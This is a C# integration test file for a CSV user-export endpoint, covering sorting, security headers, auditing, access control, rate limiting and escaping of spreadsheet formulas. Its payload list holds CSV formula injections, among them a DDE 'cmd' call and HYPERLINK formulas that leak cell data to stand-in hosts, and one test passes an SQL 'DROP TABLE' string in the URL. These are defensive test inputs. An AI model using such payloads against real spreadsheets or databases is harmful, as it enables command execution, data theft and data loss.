using System.Net;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Orgstack.Core.Export;
using Orgstack.Core.Organizations;
using Orgstack.Tests.Support;

namespace Orgstack.Tests.Export;

public sealed class ExportCsvTests : IClassFixture<AppFactory>
{
    private readonly AppFactory app;

    public ExportCsvTests(AppFactory app) => this.app = app;

    private static string Path(string org) => $"/v3/organizations/{org}/users/export.csv";

    private async Task<(HttpResponseMessage Response, string Body)> DownloadAsync(ApiClient client, string org)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, Path(org));
        request.Headers.TryAddWithoutValidation("authtoken", client.AuthToken);
        var response = await client.Http.SendAsync(request);
        return (response, await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Export_AsOwner_ListsMembersAndInvitationsSortedByEmail_WithHeaderAndSafeHeaders()
    {
        var org = await app.CreateOrganizationAsync("Export Co", "zed-owner@export.test");
        var owner = await app.OwnerUidAsync(org.Uid);
        var lastLogin = new DateTimeOffset(2026, 5, 4, 3, 2, 1, 789, TimeSpan.Zero);
        var admin = await app.Member(org.Uid, "bob@export.test", OrgRole.Admin).Named("Bob", "Builder").InvitedBy(owner).LastLogin(lastLogin).AddAsync();
        await app.Member(org.Uid, "alice@export.test").InvitedBy(owner).Pending().AddAsync();
        await app.Member(org.Uid, "carol@export.test").InvitedBy(owner).Pending(DateTimeOffset.UtcNow.AddDays(-1)).AddAsync();
        var (stack, developer) = await app.AddStackAsync(org.Uid, "Website", owner);
        var editor = await app.AddStackRoleAsync(stack, "Editor");
        await app.AssignStackRoleAsync(stack, admin.MembershipUid, developer);
        await app.AssignStackRoleAsync(stack, admin.MembershipUid, editor);
        var (blog, blogDeveloper) = await app.AddStackAsync(org.Uid, "Blog", owner);
        await app.AssignStackRoleAsync(blog, admin.MembershipUid, blogDeveloper);
        var client = app.Client();
        await client.LoginAsync("zed-owner@export.test", Scenario.Password);

        var (response, body) = await DownloadAsync(client, org.Uid);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal($"attachment; filename=\"users-{org.Uid}-{DateTime.UtcNow:yyyy-MM-dd}.csv\"", response.Content.Headers.GetValues("Content-Disposition").Single());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Contains("no-store", response.Headers.CacheControl!.ToString(), StringComparison.Ordinal);

        var rows = CsvReader.Parse(body);
        Assert.Equal(ExportMembersCsv.Columns, rows[0]);
        Assert.StartsWith("\"Email\",\"First Name\"", body, StringComparison.Ordinal);
        Assert.All(rows, r => Assert.Equal(10, r.Count));
        var emails = rows.Skip(1).Select(r => r[0]).ToList();
        Assert.Equal(["alice@export.test", "bob@export.test", "carol@export.test", "zed-owner@export.test"], emails);

        var bob = rows.Single(r => r[0] == "bob@export.test");
        Assert.Equal(["bob@export.test", "Bob", "Builder", "Admin", "Active", "Blog: Developer; Website: Developer, Editor", "zed-owner@export.test"], bob.Take(7));
        Assert.Matches(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$", bob[7]);
        Assert.Matches(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$", bob[8]);
        Assert.Equal("2026-05-04T03:02:01.789Z", bob[9]);
        var alice = rows.Single(r => r[0] == "alice@export.test");
        Assert.Equal(("Member", "Pending", "", ""), (alice[3], alice[4], alice[8], alice[9]));
        Assert.Equal("Expired", rows.Single(r => r[0] == "carol@export.test")[4]);
        var zed = rows.Single(r => r[0] == "zed-owner@export.test");
        Assert.Equal(("Olive", "Owner", "Owner", "Active"), (zed[1], zed[2], zed[3], zed[4]));
    }

    public static readonly string[] Payloads =
    [
        "=1+2", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", "=HYPERLINK(\"http://x.invalid?\"&A1,\"y\")",
        "=cmd|' /C calc'!A0", "a,=1", "a;=1", "a\"=1", "\"=1\"", "x\r\n=1", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "Zoë Ünïcødé 😀", "日本語",
    ];

    [Fact]
    public async Task Export_NeutralisesEveryFormulaPayload_AndRoundTripsEverythingElse()
    {
        var org = await app.CreateOrganizationAsync("Hostile Co", "owner@hostile.test");
        var owner = await app.OwnerUidAsync(org.Uid);
        var (stack, _) = await app.AddStackAsync(org.Uid, "=HYPERLINK(\"http://evil.invalid\")", owner, "-Role");
        var stackRole = await app.WithDbAsync(db => db.StackRoles.Where(r => r.StackUid == stack).Select(r => r.Uid).SingleAsync());
        for (var i = 0; i < Payloads.Length; i++)
        {
            var person = await app.Member(org.Uid, $"p{i:D2}@hostile.test").Named(Payloads[i], Payloads[i]).AddAsync();
            if (i == 0) await app.AssignStackRoleAsync(stack, person.MembershipUid, stackRole);
        }
        var client = app.Client();
        await client.LoginAsync("owner@hostile.test", Scenario.Password);

        var (response, body) = await DownloadAsync(client, org.Uid);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = CsvReader.Parse(body);
        Assert.Equal(Payloads.Length + 2, rows.Count);
        Assert.All(rows, r => Assert.Equal(10, r.Count));
        foreach (var row in rows.Skip(1))
            foreach (var cell in row)
                Assert.False(cell.Length > 0 && Csv.IsDangerousStart(cell[0]), $"Cell starts with a formula character: {JsonSerializer.Serialize(cell)}");
        for (var i = 0; i < Payloads.Length; i++)
        {
            var row = rows.Single(r => r[0] == $"p{i:D2}@hostile.test");
            var expected = Csv.IsDangerousStart(Payloads[i][0]) ? "'" + Payloads[i] : Payloads[i];
            Assert.Equal(expected, row[1]);
            Assert.Equal(expected, row[2]);
        }
        Assert.Equal("'=HYPERLINK(\"http://evil.invalid\"): -Role", rows.Single(r => r[0] == "p00@hostile.test")[5]);
        Assert.Contains("\"'=1+2\"\";=1+2\"", body, StringComparison.Ordinal);
        Assert.Contains("\"'=1+2'\"\" ;,=1+2\"", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_AsAdmin_IsAllowed_AndAudited_WithTheRowCount()
    {
        var org = await app.CreateOrganizationAsync("Audit Co", "owner@audit-export.test");
        await app.Member(org.Uid, "admin@audit-export.test", OrgRole.Admin).AddAsync();
        await app.Member(org.Uid, "invitee@audit-export.test").Pending().AddAsync();
        var client = app.Client();
        await client.LoginAsync("admin@audit-export.test", Scenario.Password);

        var (response, body) = await DownloadAsync(client, org.Uid);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(4, CsvReader.Parse(body).Count);
        var audit = await app.WithDbAsync(db => db.AuditEvents.SingleAsync(e => e.OrganizationUid == org.Uid && e.EventType == "export_users"));
        Assert.Equal("admin@audit-export.test", audit.ActorEmail);
        Assert.Equal(3, JsonDocument.Parse(audit.MetadataJson).RootElement.GetProperty("rows").GetInt32());
    }

    [Fact]
    public async Task Export_AsMember_IsForbidden_AndNotAudited()
    {
        var org = await app.CreateOrganizationAsync("Member Co", "owner@member-export.test");
        await app.Member(org.Uid, "member@member-export.test").AddAsync();
        var client = app.Client();
        await client.LoginAsync("member@member-export.test", Scenario.Password);

        (await client.GetAsync(Path(org.Uid))).EnsureError(HttpStatusCode.Forbidden);
        Assert.False(await app.WithDbAsync(db => db.AuditEvents.AnyAsync(e => e.OrganizationUid == org.Uid && e.EventType == "export_users")));
    }

    [Fact]
    public async Task Export_OfAnotherOrganization_IsNotFound_AndUnknownOrganizationToo()
    {
        await app.CreateOrganizationAsync("Mine Co", "owner@mine-export.test");
        var other = await app.CreateOrganizationAsync("Other Co", "owner@other-export.test");
        var client = app.Client();
        await client.LoginAsync("owner@mine-export.test", Scenario.Password);

        (await client.GetAsync(Path(other.Uid))).EnsureError(HttpStatusCode.NotFound);
        (await client.GetAsync(Path("blt0000000000000000"))).EnsureError(HttpStatusCode.NotFound);
        (await client.GetAsync(Path("'; DROP TABLE memberships; --"))).EnsureError(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Export_WithoutSession_IsUnauthorized()
    {
        var org = await app.CreateOrganizationAsync("Anon Co", "owner@anon-export.test");
        (await app.Client().GetAsync(Path(org.Uid))).EnsureError(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task Export_IsRateLimitedPerUser_With429AfterTheLimit()
    {
        var org = await app.CreateOrganizationAsync("Busy Co", "owner@busy-export.test");
        var client = app.Client();
        await client.LoginAsync("owner@busy-export.test", Scenario.Password);

        for (var i = 0; i < ExportMembersCsv.RateLimit; i++)
            Assert.Equal(HttpStatusCode.OK, (await DownloadAsync(client, org.Uid)).Response.StatusCode);

        (await client.GetAsync(Path(org.Uid))).EnsureError(HttpStatusCode.TooManyRequests);
        Assert.Equal(ExportMembersCsv.RateLimit, await app.WithDbAsync(db => db.AuditEvents.CountAsync(e => e.OrganizationUid == org.Uid && e.EventType == "export_users")));
    }
}
